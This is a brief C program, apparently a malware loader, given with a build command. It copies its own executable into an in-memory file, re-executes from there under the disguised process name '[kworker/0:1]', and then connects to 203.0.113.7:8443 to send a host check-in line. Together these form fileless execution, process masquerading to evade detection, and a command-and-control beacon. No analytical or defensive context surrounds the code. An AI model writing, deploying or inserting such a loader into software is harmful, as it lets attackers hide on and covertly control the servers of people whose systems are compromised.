/* Executes itself from memory; what runs from memory calls home once.
   gcc -O1 -static -o loader loader.c */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv) {
  char *const arguments[] = {"[kworker/0:1]", "x", NULL};
  char *const environment[] = {NULL};

  if (argc > 1) {
    struct sockaddr_in name = {.sin_family = AF_INET, .sin_port = htons(8443)};
    int descriptor = socket(AF_INET, SOCK_STREAM, 0);

    inet_pton(AF_INET, "203.0.113.7", &name.sin_addr);
    if (connect(descriptor, (struct sockaddr *)&name, sizeof(name)) == 0)
      write(descriptor, "web01 ready\n", 12);
  } else {
    int source = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int target = memfd_create("update", MFD_CLOEXEC);

    while (sendfile(target, source, NULL, 1 << 20) > 0)
      ;
    fexecve(target, arguments, environment);
  }
  return 0;
}
